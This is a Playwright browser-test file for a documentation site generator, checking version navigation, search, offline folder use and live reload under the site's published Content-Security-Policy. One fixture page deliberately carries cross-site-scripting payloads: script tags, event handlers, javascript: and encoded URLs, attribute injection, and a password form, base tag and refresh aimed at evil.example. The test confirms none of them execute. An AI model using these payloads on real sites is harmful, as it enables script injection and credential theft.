"""The built site in Chromium: from a plain web server under the policy that we publish, and from a folder."""

from __future__ import annotations

import functools
import http.server
import threading
from collections.abc import Callable, Iterator
from html import escape
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from tpo_docs.site.build import BuildOptions, build
from tpo_docs.site.serve import serve
from tpo_docs.site.tree import NavEntry, StagedFile, Tree

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

MakeTree = Callable[..., Tree]

LOUD = "<script>window.hurt=1</script><img src=x onerror=window.hurt=2><svg onload=window.hurt=3></svg>"
BODY = f"""
{LOUD} [click](javascript:window.hurt=4) <a id="b" href="javascript:window.hurt=5">me</a> <a href="&#x6A;avascript:window.hurt=6">or me</a>

<div id="__config">{{"base": "https://evil.example/", "features": [], "translations": {{}}, "search": "https://evil.example/x.js"}}</div>

<a data-md-component="source" href="https://github.com/o/r">x</a> ![pixel](https://evil.example/pixel.png)

## Heading {LOUD} {{ #x" onmouseover="window.hurt=7 data-toc-label='<img src=x onerror=window.hurt=8>' }}

<div markdown onclick="window.hurt=9" style="position:fixed;inset:0;background:url(https://evil.example/x.png)">*text*</div>

```mermaid
graph TD; A-->B
```

<form action="https://evil.example/"><input name=password type=password autofocus onfocus=window.hurt=10></form>
<iframe src="javascript:parent.hurt=11"></iframe><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">
"""


class Site(NamedTuple):
    """Where the built site lies and where it is served."""

    folder: Path
    url: str
    policy: str


class Visit:
    """A page of a browser that remembers what should not happen."""

    def __init__(self, page: Any, allowed: str) -> None:
        self.page = page
        self.errors: list[str] = []
        self.foreign: list[str] = []
        page.on("console", lambda message: self.errors.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.context.route("**/*", lambda route: self._judge(route, allowed))

    def _judge(self, route: Any, allowed: str) -> None:
        if route.request.url.startswith((allowed, "data:", "blob:")):
            route.continue_()
        else:
            self.foreign.append(route.request.url)
            route.abort()

    def open(self, url: str) -> None:
        self.page.goto(url)
        self.page.wait_for_load_state("networkidle")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    root = tmp_path_factory.mktemp("browser")
    (root / "mkdocs.yml").write_text(
        "site_name: Demo & Co\nrepo_url: https://github.com/o/r\n"
        "theme:\n  name: material\n  features: [content.action.edit, search.suggest, search.highlight, toc.follow]\n"
        "markdown_extensions: [attr_list, md_in_html, toc: {permalink: true}, pymdownx.tabbed: {alternate_style: true},"
        " pymdownx.superfences: {custom_fences: [{name: mermaid, class: mermaid}]}]\n",
        encoding="utf-8",
    )

    def page(title: str, body: str) -> bytes:
        shown = escape(title)
        head = f'title: "{shown}"\ndescription: "{shown}"\ntags: ["{shown}"]'
        return f"---\n{head}\n---\n\n# {shown}\n\n{body}\n".encode()

    for version in ("1.0", "1.1"):
        files = (
            StagedFile("index.md", page("Home", f"Home of {version}.")),
            StagedFile("requirements/index.md", page("Requirements", "All.")),
            StagedFile("requirements/REQ-004.md", page("REQ-004 Costs", f"Body of {version}."), "specs/REQ-004.md"),
            StagedFile("attack.md", page(f'"><script>window.hurt=12</script>{LOUD}', BODY)),
        )
        nav = (NavEntry("Home", "index.md"), NavEntry(LOUD, "attack.md"), NavEntry("Costs", "requirements/REQ-004.md"))
        tree = Tree(files, nav, {"id/REQ-004.html": "requirements/REQ-004.html"})
        build(tree, BuildOptions(root, root / "mkdocs.yml", root / "site", version, ("latest",), epoch=1_800_000_000))
    headers = (root / "site" / "_headers").read_text(encoding="utf-8")
    policy = headers.partition("Content-Security-Policy: ")[2].partition("\n")[0]

    class Handler(http.server.SimpleHTTPRequestHandler):
        def end_headers(self) -> None:
            self.send_header("Content-Security-Policy", policy)
            super().end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    handler = functools.partial(Handler, directory=str(root / "site"))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        yield Site(root / "site", f"http://127.0.0.1:{server.server_address[1]}/", policy)
        server.shutdown()
        thread.join()


@pytest.fixture
def visit(browser: Any, site: Site) -> Iterator[Visit]:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    yield Visit(context.new_page(), site.url)
    context.close()


def banner(visit: Visit) -> bool:
    return bool(visit.page.is_visible("[data-md-component=outdated]"))


def test_the_root_leads_to_the_newest_version(visit: Visit, site: Site) -> None:
    visit.page.goto(site.url)
    visit.page.wait_for_url(f"{site.url}latest/index.html")
    visit.page.wait_for_selector(".md-version")

    assert visit.page.inner_text(".md-version__current").split() == ["1.1", "latest"] or "1.1" in visit.page.inner_text(
        ".md-version__current"
    )
    assert not banner(visit)
    assert (visit.errors, visit.foreign) == ([], [])


def test_the_selector_keeps_the_page_when_it_changes_the_version(visit: Visit, site: Site) -> None:
    visit.open(f"{site.url}1.0/requirements/REQ-004.html")
    assert visit.page.inner_text(".md-version__current").strip() == "1.0"
    visit.page.hover(".md-version__current", force=True)
    visit.page.click(".md-version__link >> text=1.1")
    visit.page.wait_for_url(f"{site.url}1.1/requirements/REQ-004.html")

    assert "Body of 1.1." in visit.page.inner_text("article")
    assert (visit.errors, visit.foreign) == ([], [])


@pytest.mark.parametrize(("version", "outdated"), [("1.0", True), ("1.1", False), ("latest", False)])
def test_only_an_old_version_says_that_it_is_old(version: str, *, outdated: bool, visit: Visit, site: Site) -> None:
    for _ in range(2):  # the second time from what the first one remembered
        visit.open(f"{site.url}{version}/requirements/REQ-004.html")
        assert banner(visit) is outdated
    assert (visit.errors, visit.foreign) == ([], [])


def test_an_old_page_leads_to_the_same_page_of_the_newest_version(visit: Visit, site: Site) -> None:
    visit.open(f"{site.url}1.0/requirements/REQ-004.html")
    visit.page.click("text=Show this page in the newest version")
    visit.page.wait_for_url(f"{site.url}latest/requirements/REQ-004.html")
    visit.page.click("footer >> text=All versions")
    visit.page.wait_for_url(f"{site.url}versions.html")
    visit.page.click("text=1.0")
    visit.page.wait_for_url(f"{site.url}1.0/index.html")
    assert (visit.errors, visit.foreign) == ([], [])


def test_a_redirect_by_id_arrives(visit: Visit, site: Site) -> None:
    visit.page.goto(f"{site.url}1.1/id/REQ-004.html")
    visit.page.wait_for_url(f"{site.url}1.1/requirements/REQ-004.html")
    assert (visit.errors, visit.foreign) == ([], [])


def test_the_search_works_under_the_policy(visit: Visit, site: Site) -> None:
    visit.open(f"{site.url}1.1/index.html")
    visit.page.click(".md-search__input")
    visit.page.keyboard.type("costs")
    visit.page.wait_for_selector(".md-search-result__item")
    assert "REQ-004 Costs" in visit.page.inner_text(".md-search-result__list")
    assert (visit.errors, visit.foreign) == ([], [])


@pytest.mark.parametrize("under_policy", [True, False])
def test_nothing_that_an_author_writes_runs(browser: Any, site: Site, *, under_policy: bool) -> None:
    context = browser.new_context(bypass_csp=not under_policy, viewport={"width": 1280, "height": 800})
    visit = Visit(context.new_page(), site.url)
    visit.open(f"{site.url}1.1/attack.html")
    visit.page.click(".md-search__input")
    visit.page.keyboard.type("heading")
    visit.page.wait_for_selector(".md-search-result__item")
    for link in visit.page.query_selector_all(
        "article a:not(.tpo-remote):not([href^='http']), nav.md-nav--secondary a"
    ):
        link.dispatch_event("mouseover")
        link.dispatch_event("click")
    visit.page.wait_for_timeout(200)

    assert visit.page.evaluate("window.hurt") is None
    assert visit.page.url.startswith(f"{site.url}1.1/attack.html")
    assert (visit.errors, visit.foreign) == ([], [])
    assert visit.page.title() == f'"><script>window.hurt=12</script>{LOUD} - Demo & Co'
    context.close()


def test_from_a_folder_pages_links_and_search_work(browser: Any, site: Site) -> None:
    context = browser.new_context()
    visit = Visit(context.new_page(), "file://")
    visit.page.goto((site.folder / "index.html").as_uri())
    visit.page.wait_for_url((site.folder / "latest/index.html").as_uri())
    visit.page.click("nav >> text=Costs")
    visit.page.wait_for_url((site.folder / "latest/requirements/REQ-004.html").as_uri())
    visit.page.click(".md-search__input")
    visit.page.keyboard.type("requirements")
    visit.page.wait_for_selector(".md-search-result__item")
    visit.page.keyboard.press("Escape")
    visit.page.keyboard.press("Escape")
    visit.page.click("footer >> text=All versions")
    visit.page.wait_for_url((site.folder / "versions.html").as_uri())

    assert visit.foreign == []
    # The theme tries to fetch the list of versions, which no browser allows in a folder; our script loads it instead.
    assert {error for error in visit.errors if "versions.json" not in error} <= {
        "Failed to load resource: net::ERR_FAILED"
    }
    context.close()


def test_the_server_for_authors_reloads_the_browser_and_shows_what_is_wrong(browser: Any, tmp_path: Path) -> None:
    source = tmp_path / "a.md"
    source.write_text("one", encoding="utf-8")
    root = tmp_path / "project"
    root.mkdir()

    def rebuild() -> None:
        text = source.read_text(encoding="utf-8")
        target = "missing/../../x.md" if text == "broken" else "a.md"
        page = f'---\ntitle: "A"\n---\n# A\n\nText {text}.\n'.encode()
        tree = Tree((StagedFile("index.md", page), StagedFile(target, page)))
        build(tree, BuildOptions(root, None, root / "site", "dev"))

    ready = threading.Event()
    stop = threading.Event()
    urls: list[str] = []

    def is_ready(url: str) -> None:
        urls.append(url)
        ready.set()

    thread = threading.Thread(
        target=serve,
        args=(root / "site", (source,), rebuild, lambda _: None),
        kwargs={"port": 0, "ready": is_ready, "stop": stop},
    )
    thread.start()
    assert ready.wait(20)
    context = browser.new_context()
    visit = Visit(context.new_page(), urls[0])
    try:
        visit.page.goto(urls[0])
        visit.page.wait_for_selector("text=Text one.")
        source.write_text("two", encoding="utf-8")
        visit.page.wait_for_selector("text=Text two.")
        source.write_text("broken", encoding="utf-8")
        visit.page.wait_for_selector("[role=alert]:not([hidden]) >> text=cannot be a file of the site")
        assert "Text two." in visit.page.inner_text("article")
        source.write_text("three", encoding="utf-8")
        visit.page.wait_for_selector("text=Text three.")
        assert visit.foreign == []
    finally:
        context.close()
        stop.set()
        thread.join(10)
